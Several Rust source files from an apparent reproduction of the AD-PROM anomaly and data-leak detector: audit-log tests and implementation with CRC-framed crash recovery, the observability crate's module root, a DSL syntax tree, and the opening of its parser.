        let line = record.to_jsonl();
        assert!(!line.contains('\n'));
        let parsed = AuditRecord::from_jsonl(&line).unwrap();
        assert_eq!(parsed, record);
    }

    #[test]
    fn forensics_field_round_trips_and_old_lines_still_parse() {
        use crate::forensics::{DeviantTransition, ForensicReport, WindowTrace};
        let mut record = leak_record();
        record.forensics = Some(ForensicReport {
            mode: "exact_windows".into(),
            window_index: 2,
            attributed_log_likelihood: -42.5,
            top_deviant: vec![DeviantTransition {
                step: 1,
                call: "printf_Q6".into(),
                from: Some("PQexec".into()),
                log_prob: -40.0,
                deficit: -25.0,
            }],
            recent_windows: vec![WindowTrace {
                index: 2,
                log_likelihood: -42.5,
                threshold: -30.0,
                delta: -12.5,
                flag: "DATA-LEAK".into(),
            }],
        });
        let line = record.to_jsonl();
        assert!(line.contains("\"forensics\""));
        let parsed = AuditRecord::from_jsonl(&line).unwrap();
        assert_eq!(parsed, record);

        // Records without forensics omit the key entirely…
        let plain = leak_record();
        assert!(!plain.to_jsonl().contains("forensics"));
        // …and a pre-forensics line (no such key at all) still parses.
        let legacy = r#"{"seq":3,"app":"a","session":"s","epoch":1,"flag":"ANOMALOUS","window":["x"],"log_likelihood":-9.0,"threshold":-5.0,"detail":"d","kernel":"dense","label":null,"bid":null}"#;
        let parsed = AuditRecord::from_jsonl(legacy).unwrap();
        assert_eq!(parsed.seq, 3);
        assert_eq!(parsed.forensics, None);
        assert_eq!(parsed.tier, None);
        assert_eq!(parsed.escalation, None);
        assert_eq!(parsed.gap_bound_micronats, None);
    }

    #[test]
    fn tier_provenance_round_trips_and_is_omitted_when_absent() {
        let mut record = leak_record();
        record.tier = Some("beam".into());
        record.escalation = Some("alarm raised below full tier".into());
        record.gap_bound_micronats = Some(1234);
        let line = record.to_jsonl();
        assert!(line.contains("\"tier\":\"beam\""));
        assert!(line.contains("\"gap_bound_micronats\":1234"));
        let parsed = AuditRecord::from_jsonl(&line).unwrap();
        assert_eq!(parsed, record);
        // Unstamped records keep the keys out of the line entirely.
        let plain = leak_record();
        let line = plain.to_jsonl();
        assert!(!line.contains("tier"));
        assert!(!line.contains("escalation"));
        assert!(!line.contains("gap_bound"));
    }

    #[test]
    fn none_fields_round_trip() {
        let mut record = leak_record();
        record.label = None;
        record.bid = None;
        record.flag = "ANOMALOUS".into();
        let parsed = AuditRecord::from_jsonl(&record.to_jsonl()).unwrap();
        assert_eq!(parsed, record);
    }

    #[test]
    fn audit_log_assigns_monotonic_sequence_numbers() {
        let sink = Arc::new(MemoryAuditSink::new());
        let log = AuditLog::new(Arc::clone(&sink) as Arc<dyn AuditSink>);
        assert!(log.is_empty());
        for _ in 0..3 {
            log.record(leak_record());
        }
        let records = sink.records();
        assert_eq!(records.len(), 3);
        assert_eq!(
            records.iter().map(|r| r.seq).collect::<Vec<_>>(),
            vec![0, 1, 2]
        );
        assert_eq!(log.len(), 3);
    }

    #[test]
    fn jsonl_sink_writes_one_line_per_record() {
        let sink = JsonlAuditSink::new(Vec::new());
        sink.append(&leak_record());
        sink.append(&leak_record());
        let bytes = sink.into_inner();
        let text = String::from_utf8(bytes).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 2);
        let parsed = AuditRecord::from_jsonl(lines[0]).unwrap();
        assert_eq!(parsed.flag, "DATA-LEAK");
        assert_eq!(parsed.bid.as_deref(), Some("6"));
    }

    #[test]
    fn disabled_log_still_counts() {
        let log = AuditLog::disabled();
        log.record(leak_record());
        assert_eq!(log.len(), 1);
    }

    fn temp_path(name: &str) -> std::path::PathBuf {
        let dir = std::env::temp_dir().join("adprom-audit-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join(name);
        let _ = std::fs::remove_file(&path);
        for i in 1..=8 {
            let _ = std::fs::remove_file(super::rotated_path(&path, i));
        }
        path
    }

    #[test]
    fn crc32_matches_known_vectors() {
        // Standard IEEE CRC-32 check values.
        assert_eq!(crc32(b""), 0);
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(
            crc32(b"The quick brown fox jumps over the lazy dog"),
            0x414F_A339
        );
    }

    #[test]
    fn durable_sink_round_trips_records() {
        let path = temp_path("roundtrip.wal");
        let (sink, report) = DurableAuditSink::open(&path).unwrap();
        assert_eq!(report, RecoveryReport::default());
        let log = AuditLog::new(Arc::new(sink));
        for _ in 0..5 {
            log.record(leak_record());
        }
        let records = DurableAuditSink::read_records(&path).unwrap();
        assert_eq!(records.len(), 5);
        assert_eq!(
            records.iter().map(|r| r.seq).collect::<Vec<_>>(),
            vec![0, 1, 2, 3, 4]
        );
        assert_eq!(records[0].bid.as_deref(), Some("6"));
    }

    #[test]
    fn recovery_truncates_torn_tail_preserving_prefix() {
        let path = temp_path("torn.wal");
        {
            let (sink, _) = DurableAuditSink::open(&path).unwrap();
            for _ in 0..3 {
                sink.append(&leak_record());
            }
        }
        let clean_len = std::fs::metadata(&path).unwrap().len();
        // Simulate a crash mid-write: a frame prefix with half a payload
        // and no newline.
        let mut data = std::fs::read(&path).unwrap();
        data.extend_from_slice(b"000000ff deadbeef {\"seq\":99,\"ses");
        std::fs::write(&path, &data).unwrap();

        let (_sink, report) = DurableAuditSink::open(&path).unwrap();
        assert!(report.torn);
        assert_eq!(report.valid_records, 3);
        assert!(report.truncated_bytes > 0);
        assert_eq!(std::fs::metadata(&path).unwrap().len(), clean_len);
        assert_eq!(DurableAuditSink::read_records(&path).unwrap().len(), 3);
    }

    #[test]
    fn recovery_truncates_at_corrupt_middle_record() {
        let path = temp_path("corrupt.wal");
        {
            let (sink, _) = DurableAuditSink::open(&path).unwrap();
            for _ in 0..4 {
                sink.append(&leak_record());
            }
        }
        // Flip one payload byte in the third frame: its CRC no longer
        // matches, so recovery keeps only the first two records (the rest
        // of the file is untrusted once framing is broken).
        let mut data = std::fs::read(&path).unwrap();
        let frame_len = data.len() / 4;
        let victim = 2 * frame_len + super::FRAME_PREFIX + 4;
        data[victim] ^= 0x20;
        std::fs::write(&path, &data).unwrap();

        let (_sink, report) = DurableAuditSink::open(&path).unwrap();
        assert!(report.torn);
        assert_eq!(report.valid_records, 2);
        assert_eq!(DurableAuditSink::read_records(&path).unwrap().len(), 2);
    }

    #[test]
    fn appends_after_recovery_continue_the_log() {
        let path = temp_path("continue.wal");
        {
            let (sink, _) = DurableAuditSink::open(&path).unwrap();
            sink.append(&leak_record());
        }
        let mut data = std::fs::read(&path).unwrap();
        data.extend_from_slice(b"garbage tail");
        std::fs::write(&path, &data).unwrap();
        {
            let (sink, report) = DurableAuditSink::open(&path).unwrap();
            assert!(report.torn);
            sink.append(&leak_record());
        }
        assert_eq!(DurableAuditSink::read_records(&path).unwrap().len(), 2);
    }

    #[test]
    fn rotation_keeps_bounded_history() {
        let path = temp_path("rotate.wal");
        let config = WalConfig {
            max_file_bytes: 1, // rotate after every record
            keep: 2,
        };
        let (sink, _) = DurableAuditSink::open_with(&path, config).unwrap();
        for _ in 0..5 {
            sink.append(&leak_record());
        }
        assert_eq!(sink.rotations(), 5);
        assert_eq!(sink.write_errors(), 0);
        // Active file is empty (just rotated); .1 and .2 hold one record
        // each; .3 was deleted.
        assert_eq!(DurableAuditSink::read_records(&path).unwrap().len(), 0);
        for i in 1..=2 {
            let records = DurableAuditSink::read_records(&super::rotated_path(&path, i)).unwrap();
            assert_eq!(records.len(), 1, "rotation .{i}");
        }
        assert!(!super::rotated_path(&path, 3).exists());
    }

    #[test]
    fn rotation_and_size_are_visible_in_the_registry() {
        let path = temp_path("rotate-metrics.wal");
        let registry = Registry::new();
        let config = WalConfig {
            max_file_bytes: 1, // rotate after every record
            keep: 2,
        };
        let (sink, _) = DurableAuditSink::open_with(&path, config).unwrap();
        let sink = sink.with_registry(&registry);
        for _ in 0..3 {
            sink.append(&leak_record());
        }
        let snap = registry.snapshot();
        assert_eq!(snap.counter("audit.rotations"), Some(3));
        assert_eq!(snap.counter("audit.write_errors"), Some(0));
        // Every append rotated immediately, so the active WAL is empty
        // again and the gauge reflects that.
        assert_eq!(snap.gauge("audit.wal_bytes"), Some(0));

        // One more append without rotation pressure: the gauge tracks the
        // live file size.
        let path2 = temp_path("size-metrics.wal");
        let registry2 = Registry::new();
        let (sink2, _) = DurableAuditSink::open(&path2).unwrap();
        let sink2 = sink2.with_registry(&registry2);
        sink2.append(&leak_record());
        let written = std::fs::metadata(&path2).unwrap().len();
        assert!(written > 0);
        assert_eq!(
            registry2.snapshot().gauge("audit.wal_bytes"),
            Some(written as i64)
        );
    }

    #[test]
    fn frame_rejects_tampered_length_and_crc() {
        let json = leak_record().to_jsonl();
        let framed = super::frame_record(&json);
        let line = framed.trim_end_matches('\n');
        assert!(super::unframe_line(line).is_some());
        // Wrong length.
        let mut bad = line.to_string();
        bad.replace_range(0..8, "00000001");
        assert!(super::unframe_line(&bad).is_none());
        // Wrong CRC.
        let mut bad = line.to_string();
        bad.replace_range(9..17, "00000000");
        assert!(super::unframe_line(&bad).is_none());
        // Truncated payload.
        assert!(super::unframe_line(&line[..line.len() - 1]).is_none());
    }
}
