//! Structured alert audit log.
//!
//! Every non-Normal detection serializes to one JSONL line — an
//! [`AuditRecord`] — through a pluggable [`AuditSink`]. Records are
//! sequence-numbered (not timestamped, so replays are byte-stable),
//! carry the session id, flag, window, score and threshold, and — for
//! DataLeak alerts — the DDG label and block id (`bid`) connecting the
//! alert to its data source, as the paper's §V-C alerts do.
//!
//! [`AuditLog`] assigns the sequence numbers; sinks decide persistence:
//! [`NullAuditSink`] (off), [`MemoryAuditSink`] (tests and report
//! printing), [`JsonlAuditSink`] (any `io::Write`, one line per record).

use serde::{Deserialize, Serialize};
use std::io::Write;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// One audit-trail entry: a replayable, attributable alert.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AuditRecord {
    /// Monotonic sequence number, assigned by [`AuditLog`].
    pub seq: u64,
    /// Session (connection) the window came from; empty when unknown.
    pub session: String,
    /// Flag name as the engine renders it (`DATA-LEAK`, `ANOMALOUS`,
    /// `OUT-OF-CONTEXT`).
    pub flag: String,
    /// The call names of the flagged window.
    pub window: Vec<String>,
    /// `log P(window | λ)`.
    pub log_likelihood: f64,
    /// Threshold in force when the window was scored.
    pub threshold: f64,
    /// Human-readable detail from the engine.
    pub detail: String,
    /// Scoring kernel that produced `log_likelihood` (`dense`, `sparse`,
    /// or `beam`) — beam-pruned scores are approximate, so forensics need
    /// to know which path flagged the window.
    pub kernel: String,
    /// The DDG-labeled output call (`printf_Q6`) for DataLeak alerts.
    pub label: Option<String>,
    /// The DDG block id parsed from the label (`6` for `printf_Q6`) —
    /// the pointer back to the data source.
    pub bid: Option<String>,
}

impl AuditRecord {
    /// Serializes to one compact JSONL line (no trailing newline).
    pub fn to_jsonl(&self) -> String {
        serde_json::to_string(self).expect("audit record serializes")
    }

    /// Parses a record back from a JSONL line.
    pub fn from_jsonl(line: &str) -> Result<AuditRecord, serde_json::Error> {
        serde_json::from_str(line.trim())
    }
}

/// Receives sequence-numbered audit records.
pub trait AuditSink: Send + Sync {
    /// Called once per non-Normal detection.
    fn append(&self, record: &AuditRecord);
}

/// Discards every record.
#[derive(Debug, Default)]
pub struct NullAuditSink;

impl AuditSink for NullAuditSink {
    fn append(&self, _record: &AuditRecord) {}
}

/// Accumulates records in memory (tests, report printing).
#[derive(Debug, Default)]
pub struct MemoryAuditSink {
    records: Mutex<Vec<AuditRecord>>,
}

impl MemoryAuditSink {
    /// An empty sink.
    pub fn new() -> MemoryAuditSink {
        MemoryAuditSink::default()
    }

    /// All records appended so far, in order.
    pub fn records(&self) -> Vec<AuditRecord> {
        self.records.lock().expect("audit sink poisoned").clone()
    }

    /// Number of records.
    pub fn len(&self) -> usize {
        self.records.lock().expect("audit sink poisoned").len()
    }

    /// True when nothing has been recorded.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl AuditSink for MemoryAuditSink {
    fn append(&self, record: &AuditRecord) {
        self.records
            .lock()
            .expect("audit sink poisoned")
            .push(record.clone());
    }
}

/// Streams records as JSONL to any writer (a file, a pipe, a Vec).
#[derive(Debug)]
pub struct JsonlAuditSink<W: Write + Send> {
    writer: Mutex<W>,
}

impl<W: Write + Send> JsonlAuditSink<W> {
    /// Wraps a writer; each record becomes one `\n`-terminated line.
    pub fn new(writer: W) -> JsonlAuditSink<W> {
        JsonlAuditSink {
            writer: Mutex::new(writer),
        }
    }

    /// Unwraps the writer (flushing is the caller's business).
    pub fn into_inner(self) -> W {
        self.writer.into_inner().expect("audit writer poisoned")
    }
}

impl<W: Write + Send> AuditSink for JsonlAuditSink<W> {
    fn append(&self, record: &AuditRecord) {
        let mut writer = self.writer.lock().expect("audit writer poisoned");
        // Audit writes are best-effort: a full disk must not take the
        // detector down with it.
        let _ = writeln!(writer, "{}", record.to_jsonl());
    }
}

/// The audit log: assigns sequence numbers and fans records to a sink.
pub struct AuditLog {
    seq: AtomicU64,
    sink: Arc<dyn AuditSink>,
}

impl std::fmt::Debug for AuditLog {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AuditLog")
            .field("seq", &self.seq.load(Ordering::Relaxed))
            .finish()
    }
}

impl AuditLog {
    /// A log writing through `sink`.
    pub fn new(sink: Arc<dyn AuditSink>) -> AuditLog {
        AuditLog {
            seq: AtomicU64::new(0),
            sink,
        }
    }

    /// A log that discards everything (sequence numbers still advance).
    pub fn disabled() -> AuditLog {
        AuditLog::new(Arc::new(NullAuditSink))
    }

    /// Stamps `record` with the next sequence number, appends it, and
    /// returns the assigned number.
    pub fn record(&self, mut record: AuditRecord) -> u64 {
        let seq = self.seq.fetch_add(1, Ordering::Relaxed);
        record.seq = seq;
        self.sink.append(&record);
        seq
    }

    /// Records issued so far.
    pub fn len(&self) -> u64 {
        self.seq.load(Ordering::Relaxed)
    }

    /// True before the first record.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn leak_record() -> AuditRecord {
        AuditRecord {
            seq: 0,
            session: "conn-7".into(),
            flag: "DATA-LEAK".into(),
            window: vec!["PQexec".into(), "printf_Q6".into()],
            log_likelihood: -42.5,
            threshold: -30.0,
            detail: "anomalous sequence contains labeled output `printf_Q6`".into(),
            kernel: "dense".into(),
            label: Some("printf_Q6".into()),
            bid: Some("6".into()),
        }
    }

    #[test]
    fn records_round_trip_through_jsonl() {
        let record = leak_record();
        let line = record.to_jsonl();
        assert!(!line.contains('\n'));
        let parsed = AuditRecord::from_jsonl(&line).unwrap();
        assert_eq!(parsed, record);
    }

    #[test]
    fn none_fields_round_trip() {
        let mut record = leak_record();
        record.label = None;
        record.bid = None;
        record.flag = "ANOMALOUS".into();
        let parsed = AuditRecord::from_jsonl(&record.to_jsonl()).unwrap();
        assert_eq!(parsed, record);
    }

    #[test]
    fn audit_log_assigns_monotonic_sequence_numbers() {
        let sink = Arc::new(MemoryAuditSink::new());
        let log = AuditLog::new(Arc::clone(&sink) as Arc<dyn AuditSink>);
        assert!(log.is_empty());
        for _ in 0..3 {
            log.record(leak_record());
        }
        let records = sink.records();
        assert_eq!(records.len(), 3);
        assert_eq!(
            records.iter().map(|r| r.seq).collect::<Vec<_>>(),
            vec![0, 1, 2]
        );
        assert_eq!(log.len(), 3);
    }

    #[test]
    fn jsonl_sink_writes_one_line_per_record() {
        let sink = JsonlAuditSink::new(Vec::new());
        sink.append(&leak_record());
        sink.append(&leak_record());
        let bytes = sink.into_inner();
        let text = String::from_utf8(bytes).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 2);
        let parsed = AuditRecord::from_jsonl(lines[0]).unwrap();
        assert_eq!(parsed.flag, "DATA-LEAK");
        assert_eq!(parsed.bid.as_deref(), Some("6"));
    }

    #[test]
    fn disabled_log_still_counts() {
        let log = AuditLog::disabled();
        log.record(leak_record());
        assert_eq!(log.len(), 1);
    }
}
