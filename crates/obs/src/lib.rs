//! # adprom-obs
//!
//! Observability layer for the AD-PROM reproduction. The paper's system
//! runs *online* next to a production database (§IV-D); this crate makes
//! that operation inspectable without a debugger:
//!
//! * [`registry`] — a lock-cheap metrics [`Registry`]: monotonic
//!   [`Counter`]s, [`Gauge`]s, and log-bucketed [`Histogram`]s with
//!   p50/p90/p99/max summaries. Handles are plain atomics behind a
//!   `Clone + Send + Sync` registry with no global state;
//!   [`Registry::disabled`] short-circuits every update to one branch so
//!   instrumentation can stay in hot loops. Snapshots render as JSON
//!   ([`MetricsSnapshot`]) or Prometheus-style text exposition.
//! * [`span`] — a tracing facade: [`Span::enter`] records a stage's
//!   wall-clock duration into a histogram, nests via [`Span::child`],
//!   and reports through a pluggable [`SpanSink`] (null / in-memory ring
//!   / stderr pretty-printer).
//! * [`audit`] — the structured alert audit log: every non-Normal
//!   detection becomes a sequence-numbered [`AuditRecord`] (session,
//!   flag, window, score, threshold, DDG label + block id) written as
//!   JSONL through an [`AuditSink`], so alerts are replayable and
//!   attributable to their data source. [`DurableAuditSink`] makes the
//!   trail crash-safe: length-prefixed + CRC-checked frames, a recovery
//!   scan that truncates torn tails on reopen, size-based rotation.
//!
//! No external dependencies beyond the workspace's vendored
//! `serde`/`serde_json`: everything is `std` atomics and mutexes.

#![warn(missing_docs)]

pub mod audit;
pub mod forensics;
pub mod registry;
pub mod span;

pub use audit::{
    crc32, AuditLog, AuditRecord, AuditSink, DurableAuditSink, JsonlAuditSink, MemoryAuditSink,
    NullAuditSink, RecoveryReport, WalConfig,
};
pub use forensics::{DeviantTransition, ForensicReport, WindowTrace};
pub use registry::{Counter, Gauge, Histogram, HistogramSnapshot, MetricsSnapshot, Registry};
pub use span::{
    NullSpanSink, RingSink, Span, SpanContext, SpanEvent, SpanSink, StderrSink, Tracer,
};
