//! Abstract syntax tree for the AD-PROM application-program language.
//!
//! The language is a small C-like imperative language: programs are sets of
//! functions; statements cover assignment, branching, loops and returns;
//! expressions cover arithmetic, comparison, logical operators, indexing and
//! calls. Calls are either *library calls* (the libc/libpq/libmysql surface
//! that AD-PROM intercepts — see [`LibCall`]) or *user calls*
//! to other functions in the program.
//!
//! Every call expression carries a unique [`CallSiteId`] assigned when the
//! program is built. Call sites are the unit the static analyzer labels
//! (`printf_Q<bid>`) and the unit the runtime collector reports.

use crate::libcalls::LibCall;
use serde::{Deserialize, Serialize};
use std::fmt;

/// Identifies one syntactic call site within a program.
///
/// Ids are unique program-wide and stable across analysis and execution, which
/// is what lets the DDG labels computed statically be applied to events
/// emitted dynamically.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct CallSiteId(pub u32);

impl fmt::Display for CallSiteId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "s{}", self.0)
    }
}

/// Binary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[allow(missing_docs)]
pub enum BinOp {
    Add,
    Sub,
    Mul,
    Div,
    Rem,
    Eq,
    Ne,
    Lt,
    Le,
    Gt,
    Ge,
    And,
    Or,
}

impl BinOp {
    /// Surface syntax for the operator.
    pub fn symbol(self) -> &'static str {
        match self {
            BinOp::Add => "+",
            BinOp::Sub => "-",
            BinOp::Mul => "*",
            BinOp::Div => "/",
            BinOp::Rem => "%",
            BinOp::Eq => "==",
            BinOp::Ne => "!=",
            BinOp::Lt => "<",
            BinOp::Le => "<=",
            BinOp::Gt => ">",
            BinOp::Ge => ">=",
            BinOp::And => "&&",
            BinOp::Or => "||",
        }
    }
}

/// Unary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[allow(missing_docs)]
pub enum UnOp {
    Neg,
    Not,
}

/// The target of a call expression.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Callee {
    /// An intercepted library call (libc / libpq / libmysql surface).
    Library(LibCall),
    /// A call to another function defined in the program.
    User(String),
}

impl Callee {
    /// Display name of the callee (library call name or function name).
    pub fn name(&self) -> &str {
        match self {
            Callee::Library(lc) => lc.name(),
            Callee::User(name) => name,
        }
    }
}

/// Expressions.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[allow(missing_docs)]
pub enum Expr {
    /// Integer literal.
    Int(i64),
    /// Floating-point literal.
    Float(f64),
    /// String literal.
    Str(String),
    /// Boolean literal.
    Bool(bool),
    /// Null literal (maps to SQL NULL / C NULL).
    Null,
    /// Variable reference.
    Var(String),
    /// Binary operation.
    Binary(BinOp, Box<Expr>, Box<Expr>),
    /// Unary operation.
    Unary(UnOp, Box<Expr>),
    /// Indexing, e.g. `row[i]`.
    Index(Box<Expr>, Box<Expr>),
    /// A call. `site` uniquely identifies this call site program-wide; `line`
    /// is the 1-based source line when the program came from the DSL parser
    /// (0 for programmatically built programs).
    Call {
        site: CallSiteId,
        callee: Callee,
        args: Vec<Expr>,
        line: u32,
    },
}

impl Expr {
    /// Convenience constructor for a variable reference.
    pub fn var(name: impl Into<String>) -> Expr {
        Expr::Var(name.into())
    }

    /// Convenience constructor for a string literal.
    pub fn str(s: impl Into<String>) -> Expr {
        Expr::Str(s.into())
    }

    /// True if this expression or any sub-expression contains a call.
    pub fn contains_call(&self) -> bool {
        let mut found = false;
        self.walk(&mut |e| {
            if matches!(e, Expr::Call { .. }) {
                found = true;
            }
        });
        found
    }

    /// Pre-order walk over this expression tree.
    pub fn walk(&self, f: &mut impl FnMut(&Expr)) {
        f(self);
        match self {
            Expr::Binary(_, a, b) | Expr::Index(a, b) => {
                a.walk(f);
                b.walk(f);
            }
            Expr::Unary(_, a) => a.walk(f),
            Expr::Call { args, .. } => {
                for a in args {
                    a.walk(f);
                }
            }
            _ => {}
        }
    }

    /// Pre-order mutable walk over this expression tree.
    pub fn walk_mut(&mut self, f: &mut impl FnMut(&mut Expr)) {
        f(self);
        match self {
            Expr::Binary(_, a, b) | Expr::Index(a, b) => {
                a.walk_mut(f);
                b.walk_mut(f);
            }
            Expr::Unary(_, a) => a.walk_mut(f),
            Expr::Call { args, .. } => {
                for a in args {
                    a.walk_mut(f);
                }
            }
            _ => {}
        }
    }

    /// Collect the free variables referenced by this expression.
    pub fn free_vars(&self) -> Vec<String> {
        let mut vars = Vec::new();
        self.walk(&mut |e| {
            if let Expr::Var(v) = e {
                if !vars.contains(v) {
                    vars.push(v.clone());
                }
            }
        });
        vars
    }
}

/// Statements.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[allow(missing_docs)]
pub enum Stmt {
    /// `let x = e;` — declares (or shadows) a local variable.
    Let(String, Expr),
    /// `x = e;` — assignment to an existing variable.
    Assign(String, Expr),
    /// Expression evaluated for its side effect, e.g. a bare call.
    Expr(Expr),
    /// `if (c) { .. } else { .. }` — `else_branch` may be empty.
    If {
        cond: Expr,
        then_branch: Vec<Stmt>,
        else_branch: Vec<Stmt>,
    },
    /// `while (c) { .. }`.
    While { cond: Expr, body: Vec<Stmt> },
    /// `for (init; cond; step) { .. }`.
    For {
        init: Box<Stmt>,
        cond: Expr,
        step: Box<Stmt>,
        body: Vec<Stmt>,
    },
    /// `return e;` / `return;`.
    Return(Option<Expr>),
    /// `break;` — exits the innermost loop.
    Break,
    /// `continue;` — next iteration of the innermost loop.
    Continue,
}

/// A function definition.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[allow(missing_docs)]
pub struct Function {
    pub name: String,
    pub params: Vec<String>,
    pub body: Vec<Stmt>,
}

impl Function {
    /// Creates a function with the given name, parameters and body.
    pub fn new(name: impl Into<String>, params: Vec<String>, body: Vec<Stmt>) -> Function {
        Function {
            name: name.into(),
            params,
            body,
        }
    }
}

/// A whole application program: a set of functions with `main` as entry.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[allow(missing_docs)]
pub struct Program {
    pub functions: Vec<Function>,
    /// Next call-site id to hand out; kept on the program so mutators
    /// (the attacks crate) can allocate fresh, non-colliding ids.
    next_site: u32,
}

impl Program {
    /// Name of the entry function.
    pub const ENTRY: &'static str = "main";

    /// Creates a program from parts. `next_site` must be larger than every
    /// call-site id already present; use [`Program::recompute_next_site`]
    /// when unsure.
    pub fn new(functions: Vec<Function>, next_site: u32) -> Program {
        Program {
            functions,
            next_site,
        }
    }

    /// Looks up a function by name.
    pub fn function(&self, name: &str) -> Option<&Function> {
        self.functions.iter().find(|f| f.name == name)
    }

    /// Looks up a function mutably by name.
    pub fn function_mut(&mut self, name: &str) -> Option<&mut Function> {
        self.functions.iter_mut().find(|f| f.name == name)
    }

    /// The entry function (`main`), if present.
    pub fn entry(&self) -> Option<&Function> {
        self.function(Self::ENTRY)
    }

    /// Allocates a fresh call-site id.
    pub fn fresh_site(&mut self) -> CallSiteId {
        let id = CallSiteId(self.next_site);
        self.next_site += 1;
        id
    }

    /// Recomputes `next_site` as one past the maximum id present. Call after
    /// splicing in statements built outside this program.
    pub fn recompute_next_site(&mut self) {
        let mut max = 0;
        self.for_each_call(|site, _, _| max = max.max(site.0 + 1));
        self.next_site = self.next_site.max(max);
    }

    /// Visits every call site in the program as `(site, callee, function
    /// name)`, in function order then pre-order within each body.
    pub fn for_each_call(&self, mut f: impl FnMut(CallSiteId, &Callee, &str)) {
        for func in &self.functions {
            for stmt in &func.body {
                walk_stmt_calls(stmt, &mut |site, callee| f(site, callee, &func.name));
            }
        }
    }

    /// Total number of call sites in the program.
    pub fn call_site_count(&self) -> usize {
        let mut n = 0;
        self.for_each_call(|_, _, _| n += 1);
        n
    }

    /// Names of the distinct library calls used anywhere in the program.
    pub fn library_calls_used(&self) -> Vec<LibCall> {
        let mut out: Vec<LibCall> = Vec::new();
        self.for_each_call(|_, callee, _| {
            if let Callee::Library(lc) = callee {
                if !out.contains(lc) {
                    out.push(*lc);
                }
            }
        });
        out
    }
}

fn walk_stmt_calls(stmt: &Stmt, f: &mut impl FnMut(CallSiteId, &Callee)) {
    fn on_expr(e: &Expr, f: &mut impl FnMut(CallSiteId, &Callee)) {
        e.walk(&mut |e| {
            if let Expr::Call { site, callee, .. } = e {
                f(*site, callee);
            }
        })
    }
    match stmt {
        Stmt::Let(_, e) | Stmt::Assign(_, e) | Stmt::Expr(e) => on_expr(e, f),
        Stmt::If {
            cond,
            then_branch,
            else_branch,
        } => {
            on_expr(cond, f);
            for s in then_branch {
                walk_stmt_calls(s, f);
            }
            for s in else_branch {
                walk_stmt_calls(s, f);
            }
        }
        Stmt::While { cond, body } => {
            on_expr(cond, f);
            for s in body {
                walk_stmt_calls(s, f);
            }
        }
        Stmt::For {
            init,
            cond,
            step,
            body,
        } => {
            walk_stmt_calls(init, f);
            on_expr(cond, f);
            walk_stmt_calls(step, f);
            for s in body {
                walk_stmt_calls(s, f);
            }
        }
        Stmt::Return(Some(e)) => on_expr(e, f),
        Stmt::Return(None) | Stmt::Break | Stmt::Continue => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn call(site: u32, lc: LibCall, args: Vec<Expr>) -> Expr {
        Expr::Call {
            site: CallSiteId(site),
            callee: Callee::Library(lc),
            args,
            line: 0,
        }
    }

    #[test]
    fn for_each_call_visits_nested_sites() {
        let body = vec![
            Stmt::Let("x".into(), call(0, LibCall::Scanf, vec![])),
            Stmt::If {
                cond: Expr::Binary(BinOp::Gt, Box::new(Expr::var("x")), Box::new(Expr::Int(0))),
                then_branch: vec![Stmt::Expr(call(1, LibCall::Printf, vec![Expr::str("hi")]))],
                else_branch: vec![],
            },
        ];
        let prog = Program::new(vec![Function::new("main", vec![], body)], 2);
        let mut seen = Vec::new();
        prog.for_each_call(|site, callee, func| {
            seen.push((site.0, callee.name().to_string(), func.to_string()));
        });
        assert_eq!(
            seen,
            vec![
                (0, "scanf".to_string(), "main".to_string()),
                (1, "printf".to_string(), "main".to_string())
            ]
        );
        assert_eq!(prog.call_site_count(), 2);
    }

    #[test]
    fn fresh_site_monotonic() {
        let mut prog = Program::new(vec![], 5);
        assert_eq!(prog.fresh_site(), CallSiteId(5));
        assert_eq!(prog.fresh_site(), CallSiteId(6));
    }

    #[test]
    fn contains_call_detects_deep_call() {
        let e = Expr::Binary(
            BinOp::Add,
            Box::new(Expr::Int(1)),
            Box::new(call(0, LibCall::Rand, vec![])),
        );
        assert!(e.contains_call());
        assert!(!Expr::Int(3).contains_call());
    }

    #[test]
    fn free_vars_deduplicates() {
        let e = Expr::Binary(
            BinOp::Add,
            Box::new(Expr::var("a")),
            Box::new(Expr::Binary(
                BinOp::Mul,
                Box::new(Expr::var("a")),
                Box::new(Expr::var("b")),
            )),
        );
        assert_eq!(e.free_vars(), vec!["a".to_string(), "b".to_string()]);
    }
}
