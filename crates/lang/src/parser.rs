//! Recursive-descent parser for the application-program DSL.
//!
//! The surface syntax is a C-flavoured subset:
//!
//! ```text
//! fn main() {
//!     let conn = PQconnectdb("hospital");
//!     let r = PQexec(conn, "SELECT * FROM patients");
//!     let n = PQntuples(r);
//!     let i = 0;
//!     while (i < n) {
//!         printf("%s", PQgetvalue(r, i, 0));
//!         i = i + 1;
//!     }
//! }
//! ```
//!
//! Identifiers that match a known [`LibCall`] name resolve to library calls;
//! anything else resolves to a user-function call. Call sites are numbered in
//! the order they are parsed.

use crate::ast::{BinOp, Callee, Expr, Function, Program, Stmt, UnOp};
use crate::libcalls::LibCall;
use std::fmt;

/// A parse error with 1-based line information.
#[derive(Debug, Clone, PartialEq, Eq)]
#[allow(missing_docs)]
pub struct ParseError {
    pub line: u32,
    pub message: String,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
